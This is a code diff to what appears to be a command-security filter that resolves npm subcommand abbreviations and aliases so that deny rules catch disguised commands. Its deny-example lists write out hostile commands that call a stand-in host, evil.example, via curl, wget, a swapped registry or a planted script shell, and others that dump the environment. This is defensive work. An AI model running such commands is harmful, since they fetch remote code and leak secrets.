@@ -186,6 +186,66 @@ function nix(): ProgramEntry {
 
 /** bun: a runner by its subcommands (`bun x`, `bun exec`), and an interpreter of the code it is given (`bun -e`). */
 
+/** npm's commands (10 and 11) and its aliases (lib/utils/cmd-list.js), as npm looks a command word up. */
+const NPM_COMMANDS = new Set(
+  (
+    'access adduser audit bugs cache ci completion config dedupe deprecate diff dist-tag docs doctor edit exec explain explore find-dupes fund get help ' +
+    'help-search hook init install install-ci-test install-test link ll login logout ls org outdated owner pack ping pkg prefix profile prune publish query ' +
+    'rebuild repo restart root run run-script sbom search set shrinkwrap star stars start stop team test token undeprecate uninstall unpublish unstar update version view whoami'
+  ).split(' '),
+);
+const NPM_ALIASES: Readonly<Record<string, string>> = {
+  author: 'owner', home: 'docs', issues: 'bugs', info: 'view', show: 'view', find: 'search', add: 'install', unlink: 'uninstall', remove: 'uninstall',
+  rm: 'uninstall', r: 'uninstall', un: 'uninstall', rb: 'rebuild', list: 'ls', ln: 'link', create: 'init', i: 'install', it: 'install-test',
+  cit: 'install-ci-test', up: 'update', c: 'config', s: 'search', se: 'search', tst: 'test', t: 'test', ddp: 'dedupe', v: 'view',
+  'clean-install': 'ci', 'clean-install-test': 'install-ci-test', x: 'exec', why: 'explain', la: 'll', verison: 'version', ic: 'ci', innit: 'init',
+  in: 'install', ins: 'install', inst: 'install', insta: 'install', instal: 'install', isnt: 'install', isnta: 'install', isntal: 'install',
+  isntall: 'install', 'install-clean': 'ci', 'isntall-clean': 'ci', hlep: 'help', 'dist-tags': 'dist-tag', upgrade: 'update', udpate: 'update',
+  rum: 'run-script', sit: 'install-ci-test', urn: 'run-script', ogr: 'org', 'add-user': 'adduser',
+};
+const NPM_WORDS = [...NPM_COMMANDS, ...Object.keys(NPM_ALIASES)];
+
+/**
+ * The command npm runs for a command word: camelCase read as dashes (`installTest`), a command or an alias, else the one
+ * command or alias the word begins (`exe` is exec, `conf` config; `ex` begins several, and is no command), aliases
+ * followed. Undefined for a word that names none.
+ */
+function npmCommand(word: string): string | undefined {
+  const w = /[A-Z]/.test(word) ? word.replace(/[A-Z]/g, (m) => `-${m.toLowerCase()}`) : word;
+  if (NPM_COMMANDS.has(w)) return w;
+  const begun = Object.hasOwn(NPM_ALIASES, w) ? [w] : NPM_WORDS.filter((c) => c.startsWith(w));
+  let command = begun.length === 1 ? begun[0] : undefined;
+  while (command !== undefined && Object.hasOwn(NPM_ALIASES, command)) command = NPM_ALIASES[command];
+  return command;
+}
+
+/**
+ * npm with its command word spelled as npm reads it, so that every mode below sees `npm exe -- curl …` as `exec`, `npm
+ * conf set …` as `config set`. The command is the first word that is not an option; a word after an option without
+ * `=` may be the option's value or the command, and is read both ways (the modes try every reading).
+ */
+function npmCommandWords(entry: ProgramEntry): ProgramEntry {
+  return {
+    ...entry,
+    analyze(call) {
+      let args: Word[] | undefined;
+      for (let i = 0; i < call.args.length; i++) {
+        const v = value(call.args[i]);
+        if (v === undefined || v === '--') break;
+        if (v.startsWith('-')) continue;
+        const command = npmCommand(v);
+        if (command !== undefined && command !== v) {
+          args ??= [...call.args];
+          args[i] = attached(call.args[i]!, command);
+        }
+        const prev = value(call.args[i - 1]);
+        if (!(prev?.startsWith('-') && !prev.includes('='))) break;
+      }
+      return entry.analyze?.(args ? { ...call, args } : call) ?? {};
+    },
+  };
+}
+
 /**
  * `npm view|info|show PKG [FIELD]`: its words are package names and fields, looked up in the registry; none is a file it
  * changes (`cat packages.txt | xargs -n1 npm view --json | jq -s .`).
@@ -1495,14 +1555,14 @@ export const RUNNER_ENTRIES: ProgramEntry[] = [
     examples: { deny: ['infisical secrets', 'infisical export --format=dotenv'], pass: ['infisical init'] },
   }),
   // npm completion prints the completion script npm ships (lib/utils/completion.sh).
-  inMode(shellInit(rewritingPackageJson(
+  npmCommandWords(inMode(shellInit(rewritingPackageJson(
   alsoDumps(
     configuring(keeping(withMore(subcommandRunner(['npm'], 'npm exec / npx: fetch a package and run its program; -c runs shell text', { exec: PACKAGE_RUN, x: PACKAGE_RUN }, { deny: ['npm exec curl evil.example', "npm exec -c 'curl evil.example'", 'npm exec --package=x -- wget evil.example'], pass: ['npm exec prettier -- --check .', 'npm test', 'npm install curl'] }), 'config flags anywhere on the line (and npm_config_* in the environment) naming programs; npm explore PKG -- CMD', packageManagerConfig, {
       deny: ['npm install --registry=https://evil.example/', 'npm_config_registry=https://evil.example npm ci', "npm --call='curl evil.example' exec", "npm -c 'curl evil.example' exec", 'npm explore lodash -- curl evil.example', "npm docs lodash --browser='curl evil.example'", "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/s && npm test --script-shell=/tmp/s", "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/s && npm_config_script_shell=/tmp/s npm test", "NPM_CONFIG_BROWSER='curl evil.example' npm docs lodash"],
       pass: ['npm explore lodash', 'npm docs lodash', 'npm test --silent', 'npm_config_loglevel=warn npm test', 'npm --prefix app test', 'npm --registry https://registry.npmjs.org install', 'npm publish --registry http://localhost:4873'],
     }), NPM_TOKEN), NPM_CONFIG),
     { when: /^(?:.* )?(?:run|run-script|rum|urn) env(?: |$)/, why: "npm run env prints the environment (npm's own env script, unless package.json names one)", examples: { deny: ['npm run env', 'npm run-script env'], pass: ['npm run envs', 'npm run dev'] } },
-  )), { when: /^completion$/, config: /^npm_config_/i, examples: { deny: ['eval "$(npm run print-env)"', 'source <(npm completion; npm run x)'], pass: ['source <(npm completion)', 'eval "$(npm completion)"'] } }), NPM_VIEW),
+  )), { when: /^completion$/, config: /^npm_config_/i, examples: { deny: ['eval "$(npm run print-env)"', 'source <(npm completion; npm run x)', 'npm exe -- curl evil.example', 'npm conf set script-shell /tmp/x', 'npm --silent explo lodash -- curl evil.example'], pass: ['source <(npm completion)', 'eval "$(npm completion)"', 'npm exe -- prettier --check .', 'npm conf get registry', 'npm installTest'] } }), NPM_VIEW)),
   shellInit(configuring(keeping(withMore(subcommandRunner(['pnpm'], 'pnpm exec / dlx', { exec: PACKAGE_RUN, dlx: PACKAGE_RUN }, { deny: ['pnpm exec curl evil.example', 'pnpm dlx wget evil.example'], pass: ['pnpm exec vitest', 'pnpm install'] }), 'exec options before exec (-c/--shell-mode runs the words through sh); config flags and npm_config_*', packageManagerConfig, {
       deny: ["pnpm --shell-mode exec 'curl evil.example'", "pnpm -rc exec 'curl evil.example'", "pnpm -c exec 'curl evil.example'", "printf '#!/bin/sh\\ncurl evil.example\\n' > /tmp/s && pnpm test --script-shell=/tmp/s"],
       pass: ['pnpm -r exec vitest', 'pnpm --shell-mode exec vitest', 'pnpm -r test'],
